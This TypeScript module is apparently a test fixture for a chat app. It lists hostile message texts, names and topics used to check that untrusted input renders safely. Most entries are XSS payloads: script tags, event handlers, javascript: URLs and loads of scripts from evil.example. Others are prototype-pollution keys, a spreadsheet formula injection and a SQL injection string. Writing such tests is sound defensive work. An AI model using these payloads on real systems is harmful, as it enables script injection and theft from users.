/** What runs if a page takes a text for more than a text. */
const RUN = "window.__pwned=1";

/** Texts of people who mean harm, or whose keyboards do. Each would leave `__pwned` behind, or spoil what is around it. */
const TEXTS = [
  // markup
  `<script>${RUN}</script>`,
  `<ScRiPt>${RUN}</sCrIpT >`,
  `<script src=//evil.example/x.js></script>`,
  `<img src=x onerror=${RUN}>`,
  `<img/src="x"/onerror="${RUN}">`,
  `<svg onload=${RUN}>`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`,
  `<svg><use href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg' onload='${RUN}'/>#x">`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${RUN}>`,
  `<math href="javascript:${RUN}">x</math>`,
  `<iframe srcdoc="<script>parent.__pwned=1</script>">`,
  `<iframe src="javascript:parent.__pwned=1">`,
  `<object data="data:text/html,<script>${RUN}</script>">`,
  `<embed src="//evil.example/x">`,
  `<base href="//evil.example/">`,
  `<link rel=stylesheet href="//evil.example/x.css">`,
  `<meta http-equiv=refresh content="0;url=javascript:${RUN}">`,
  `<form action="javascript:${RUN}"><button>send</button></form>`,
  `<input autofocus onfocus=${RUN}>`,
  `<details open ontoggle=${RUN}>`,
  `<body onload=${RUN}>`,
  `<a href="javascript:${RUN}">x</a>`,
  `<style>*{background:url(//evil.example/x)}</style>`,
  `<style>@import "//evil.example/x.css";</style>`,
  `<template><img src=x onerror=${RUN}></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `<plaintext><xmp><textarea></textarea><img src=x onerror=${RUN}>`,
  `<!--><img src=x onerror=${RUN}>-->`,
  `<![CDATA[<img src=x onerror=${RUN}>]]>`,
  `</p></div></li></ol></main></body></html><script>${RUN}</script>`,
  `&lt;img src=x onerror=${RUN}&gt; &#60;script&#62; &amp;amp; &nbsp; &#x3c; &lt`,
  `%3Cscript%3E${RUN}%3C/script%3E \\u003cscript\\u003e \\x3cscript\\x3e`,
  // out of an attribute, a string, a template
  `" onmouseover="${RUN}" autofocus onfocus="${RUN}`,
  `' style='x' onpointerenter='${RUN}`,
  `"><img src=x onerror=${RUN}>`,
  `');${RUN};//`,
  `\\";${RUN};//`,
  `{{constructor.constructor('${RUN}')()}}`,
  `\${${RUN}} #{${RUN}} <%= ${RUN} %> {%raw%} [[${RUN}]]`,
  `{"__html":"<img src=x onerror=${RUN}>"}`,
  // addresses
  `javascript:${RUN}`,
  `JaVaScRiPt://%0a${RUN}`,
  `java\tscript:${RUN}`,
  `data:text/html,<script>${RUN}</script>`,
  `vbscript:x blob:x file:///etc/passwd //evil.example mailto:x@evil.example`,
  `https://user:secret@evil.example:1/\\@good.example/"onclick="${RUN}`,
  `https://evil.example/"><img src=x onerror=${RUN}>`,
  `http:javascript:${RUN} https:evil https:// http:///x https://[ https://%00/`,
  // what looks like Markdown
  `[x](javascript:${RUN}) ![x](//evil.example/x.png) <https://evil.example/x> **b** _i_ # h > q | a | b |`,
  `[x]: javascript:${RUN}\n[x][x]`,
  // names of what every object has
  "__proto__",
  "constructor",
  "constructor.prototype.__pwned",
  '{"__proto__":{"__pwned":1}}',
  "toString hasOwnProperty valueOf __defineGetter__",
  // what is nothing
  "null",
  "undefined",
  "NaN",
  "[object Object]",
  "false",
  "0",
  "-0",
  "''",
  // characters
  "\u202Egnp.exe\u202D \u2066a\u2067b \u061C",
  "\u200B\u200Bzero\u200C\u200D\u2060width\uFEFF\u00AD",
  "Z\u0351\u036B\u0343\u036A\u0302\u036B\u033D\u034F\u0334\u0319\u0324\u031E\u0349\u035A\u032F\u031E\u0320\u034DA\u036B\u0357\u0334\u0362\u0335\u031C\u0330\u0354L\u0368\u0367\u0369\u0358\u0320G\u0311\u0357\u030E\u0305\u035B\u0341\u0334\u033B\u0348\u034D\u0354\u0339O",
  "👩‍👩‍👧‍👦 🏳️‍🌈 👍🏿 🇫🇷🇫 ❤️‍🔥 \u{E0067}\u{E0062} #️⃣",
  "مرحبا <b>שלום</b> 你好 ﷽ 𝕳𝖊𝖑𝖑𝖔 ｆｕｌｌ",
  "line\u2028line\u2029line\u0085line\rline\vline\fline",
  "\u0001\u0002\u001B[31mred\u001B[0m\u007F\uFFFD\uFFFF",
  `${"W".repeat(400)}`,
  `https://example.com/${"a".repeat(400)}`,
  `${"\u202E".repeat(60)}${"﷽".repeat(20)}`,
  "=cmd|'/c calc'!A1 +1+1 @SUM(1) -1",
  "'; drop table messages; -- \" or 1=1 $$ \\",
];

/** Ways to put a text into a message: what is sent, and what is to be seen of it. */
const WRAPPINGS: { send: (text: string) => string; see?: (text: string) => string }[] = [
  { send: (text) => text },
  { send: (text) => `before ${text} after\n${text}` },
  { send: (text) => `\`${text}\``, see: (text) => text },
  { send: (text) => `\`\`\`js\n${text}\n\`\`\``, see: (text) => text },
  { send: (text) => `@__proto__ @constructor ${text} @nobody` },
  { send: (text) => `https://example.com/?q=${text}` },
];
const IN_A_LINE = /^[^\n`]+$/; // what code between single marks may hold

export interface Body {
  sent: string;
  seen: string;
}

/** Every text in every wrapping that it goes into. */
export const BODIES: Body[] = WRAPPINGS.flatMap(({ send, see = send }) =>
  TEXTS.filter((text) => see === send || IN_A_LINE.test(text)).map((text) => ({
    sent: send(text),
    seen: see(text),
  })),
);

// The server takes off what is blank at the ends.
const upTo = (length: number) => TEXTS.map((text) => Array.from(text).slice(0, length).join("").trim());

/** As long as they may be. */
export const NAMES = upTo(80);
export const ROOM_NAMES = upTo(100);
export const TOPICS = upTo(500);
/** Names of what every object has, as far as they may be handles. */
export const HANDLES = [
  "__proto__",
  "constructor",
  "prototype",
  "tostring",
  "valueof",
  "null",
  "undefined",
  "then",
];
